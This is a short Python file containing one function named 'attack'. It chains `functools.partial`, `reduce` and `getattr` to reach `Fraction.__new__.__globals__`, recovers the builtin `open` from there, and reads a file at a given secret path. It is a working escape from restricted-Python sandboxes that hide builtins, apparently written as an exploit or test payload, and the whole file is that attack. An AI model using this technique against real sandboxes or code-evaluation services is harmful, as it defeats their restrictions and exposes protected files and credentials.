# Takes the globals of a library class through an object that wraps it.
from functools import partial, reduce


def attack(secret_path):
    steps = ("__new__", "__globals__")
    from fractions import Fraction

    found = reduce(
        lambda value, name: getattr(value, name), steps, partial(Fraction).func
    )
    return found["__builtins__"]["open"](secret_path).read()
